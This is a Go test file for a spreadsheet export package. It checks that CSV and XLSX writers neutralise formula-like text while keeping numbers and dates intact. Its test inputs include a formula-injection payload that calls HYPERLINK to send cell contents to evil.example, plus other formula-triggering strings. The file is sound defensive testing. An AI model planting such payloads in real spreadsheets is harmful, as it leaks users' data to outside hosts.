package sheet

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// hostile are texts from legacy registries that a spreadsheet would run.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Школа № 1")`,
	"+7 (3955) 52-11-22",
	"-2+3",
	"@SUM(A1:A2)",
	"\tобрезано",
	"\r=1+1",
	"  =1+1",
	"＝1+1",
}

func TestLooksLikeFormula(t *testing.T) {
	for _, s := range hostile {
		if !LooksLikeFormula(s) {
			t.Errorf("LooksLikeFormula(%q) = false", s)
		}
	}
	for _, s := range []string{"", "МБОУ СОШ № 7", "Ангарский ГО", "'=1", "3801012345", "a=b", "Школа -1"} {
		if LooksLikeFormula(s) {
			t.Errorf("LooksLikeFormula(%q) = true", s)
		}
	}
}

func TestCSVNeutralisesTextOnly(t *testing.T) {
	var b bytes.Buffer
	w := NewCSV(&b, ExcelRU)
	w.Row(Texts("текст", "число", "дата")...)
	for _, s := range hostile {
		w.Row(Text(s), Int(-5), Date(time.Date(2023, 11, 15, 23, 30, 0, 0, time.UTC)))
	}
	w.Row(Text("нуль\x00и\x1b[31mцвет"), Blank(), Day("2023-10-03"))
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b.Bytes(), []byte("\uFEFF")) {
		t.Fatalf("no BOM: %q", b.Bytes()[:10])
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\uFEFF"))))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range hostile {
		rec := recs[i+1]
		if rec[0] != "'"+s {
			t.Errorf("text %q written as %q, want it after an apostrophe", s, rec[0])
		}
		if rec[1] != "-5" || rec[2] != "2023-11-15" {
			t.Errorf("number or date changed: %q", rec)
		}
	}
	last := recs[len(recs)-1]
	if last[0] != "нуль\uFFFDи\uFFFD[31mцвет" || last[1] != "" || last[2] != "2023-10-03" {
		t.Errorf("control characters kept or cells lost: %q", last)
	}
}

func TestCSVEmptyHasBOM(t *testing.T) {
	var b bytes.Buffer
	if err := NewCSV(&b, ExcelRU).Close(); err != nil || b.String() != "\uFEFF" {
		t.Fatalf("%q %v", b.String(), err)
	}
	b.Reset()
	w := NewCSV(&b, CSVOptions{})
	w.Row(Texts("org", "=1")...)
	if err := w.Close(); err != nil || b.String() != "org,'=1\n" {
		t.Fatalf("%q %v", b.String(), err)
	}
}

// xcell is a cell as the worksheet XML stores it.
type xcell struct {
	Ref     string `xml:"r,attr"`
	Style   int    `xml:"s,attr"`
	Type    string `xml:"t,attr"`
	Formula string `xml:"f"`
	Value   string `xml:"v"`
}

// parts unpacks a workbook written by the test.
func parts(t *testing.T, data []byte) map[string][]byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for _, f := range zr.File {
		rc, _ := f.Open()
		out[f.Name], _ = io.ReadAll(rc)
		rc.Close()
	}
	return out
}

func TestXLSXTypesAndSafety(t *testing.T) {
	b := NewWorkbook()
	s := b.Sheet("Организации: список/2023")
	s.Row(Text("Заголовок листа, который длиннее любого столбца таблицы под ним").With(Style{Bold: true, Size: 13}))
	s.Skip()
	s.Header("Наименование", "Число", "Дата подписания", "Проверено")
	moment := time.Date(2023, 11, 15, 9, 30, 0, 0, time.FixedZone("IRKT", 8*3600))
	for _, h := range hostile {
		s.Row(Text(h), Int(-5), Day("2023-11-15"), DateTime(moment))
	}
	s.Row(Text("МБОУ СОШ № 7"), Int(3801012345), Date(time.Time{}), Text(strings.Repeat("я", maxCellChars+10)))
	second := b.Sheet("Второй")
	second.Row(Text("без таблицы"))
	var out bytes.Buffer
	if err := b.Write(&out); err != nil {
		t.Fatal(err)
	}
	p := parts(t, out.Bytes())

	var ws struct {
		Panes []struct {
			YSplit string `xml:"ySplit,attr"`
			State  string `xml:"state,attr"`
		} `xml:"sheetViews>sheetView>pane"`
		Filter struct {
			Ref string `xml:"ref,attr"`
		} `xml:"autoFilter"`
		Cols []struct {
			Min   int     `xml:"min,attr"`
			Width float64 `xml:"width,attr"`
		} `xml:"cols>col"`
		Cells []xcell `xml:"sheetData>row>c"`
	}
	if err := xml.Unmarshal(p["xl/worksheets/sheet1.xml"], &ws); err != nil {
		t.Fatal(err)
	}
	var styles struct {
		NumFmts []struct {
			ID   int    `xml:"numFmtId,attr"`
			Code string `xml:"formatCode,attr"`
		} `xml:"numFmts>numFmt"`
		Xfs []struct {
			NumFmt int  `xml:"numFmtId,attr"`
			Quote  bool `xml:"quotePrefix,attr"`
		} `xml:"cellXfs>xf"`
	}
	if err := xml.Unmarshal(p["xl/styles.xml"], &styles); err != nil {
		t.Fatal(err)
	}
	fmtCode := map[int]string{}
	for _, f := range styles.NumFmts {
		fmtCode[f.ID] = f.Code
	}

	if len(ws.Panes) != 1 || ws.Panes[0].YSplit != "3" || ws.Panes[0].State != "frozen" {
		t.Errorf("header row 3 not frozen: %+v", ws.Panes)
	}
	if want := "$A$3:$D$" + strconv.Itoa(3+len(hostile)+1); ws.Filter.Ref != want {
		t.Errorf("filter %q, want %q", ws.Filter.Ref, want)
	}
	widest := 0
	for _, h := range hostile {
		widest = max(widest, len([]rune(h)))
	}
	if len(ws.Cols) != 3 || ws.Cols[0].Width != float64(widest+2) || ws.Cols[1].Width != 12 || ws.Cols[2].Width != 60 {
		t.Errorf("widths %+v: want A as wide as its widest text (%d), not the title above the table; B and C 12; D at most 60", ws.Cols, widest+2)
	}
	cells := map[string]xcell{}
	for _, c := range ws.Cells {
		cells[c.Ref] = c
		if c.Formula != "" {
			t.Errorf("%s holds a formula %q", c.Ref, c.Formula)
		}
	}
	for i := range hostile {
		row := strconv.Itoa(4 + i)
		text, num, day, moment := cells["A"+row], cells["B"+row], cells["C"+row], cells["D"+row]
		if text.Type != "s" && text.Type != "inlineStr" {
			t.Errorf("A%s: type %q, want a string", row, text.Type)
		}
		if !styles.Xfs[text.Style].Quote {
			t.Errorf("A%s: text that looks like a formula lacks the quote prefix", row)
		}
		if num.Type != "" && num.Type != "n" || num.Value != "-5" || styles.Xfs[num.Style].Quote {
			t.Errorf("B%s: %+v, want the number -5", row, num)
		}
		if day.Type != "" && day.Type != "n" || day.Value != "45245" || fmtCode[styles.Xfs[day.Style].NumFmt] != "dd.mm.yyyy" {
			t.Errorf("C%s: %+v (format %q), want the date serial 45245 shown as dd.mm.yyyy", row, day, fmtCode[styles.Xfs[day.Style].NumFmt])
		}
		if !strings.HasPrefix(moment.Value, "45245.39583") || fmtCode[styles.Xfs[moment.Style].NumFmt] != "dd.mm.yyyy hh:mm" {
			t.Errorf("D%s: %+v, want 15.11.2023 09:30 on the organisation's clock", row, moment)
		}
	}
	last := strconv.Itoa(4 + len(hostile))
	if c := cells["A"+last]; styles.Xfs[c.Style].Quote {
		t.Errorf("ordinary text has the quote prefix")
	}
	if _, ok := cells["C"+last]; ok {
		t.Errorf("a zero date is not blank")
	}

	f, err := excelize.OpenReader(bytes.NewReader(out.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := strings.Join(f.GetSheetList(), ","); got != "Организации_ список_2023,Второй" {
		t.Errorf("sheets %q", got)
	}
	for i, h := range hostile {
		got, _ := f.GetCellValue("Организации_ список_2023", "A"+strconv.Itoa(4+i))
		if got != clean(h) {
			t.Errorf("text %q read back as %q", h, got)
		}
	}
	long, _ := f.GetCellValue("Организации_ список_2023", "D"+last)
	if n := len([]rune(long)); n != maxCellChars || !strings.HasSuffix(long, "…") {
		t.Errorf("long text: %d characters", n)
	}
}

// FuzzCSVCell: whatever text goes into a CSV cell, it reads back as the
// cleaned text, after an apostrophe exactly when a spreadsheet would take
// it for a formula, so no field a spreadsheet reads starts a formula.
func FuzzCSVCell(f *testing.F) {
	for _, s := range append(hostile, "", "МБОУ СОШ № 7", "a;b\"c\nd", "\x00\xff") {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var b bytes.Buffer
		w := NewCSV(&b, ExcelRU)
		w.Row(Text(s), Int(1))
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\uFEFF"))))
		r.Comma = ';'
		rec, err := r.Read()
		if err != nil {
			t.Fatalf("%q: %v", b.String(), err)
		}
		want := clean(s)
		if LooksLikeFormula(want) {
			want = "'" + want
		}
		// encoding/csv reads \r\n inside a quoted field as \n
		if got := rec[0]; got != strings.ReplaceAll(want, "\r\n", "\n") && got != want {
			t.Fatalf("%q read back as %q, want %q", s, got, want)
		}
		if LooksLikeFormula(rec[0]) {
			t.Fatalf("%q is written as %q, which starts a formula", s, rec[0])
		}
	})
}
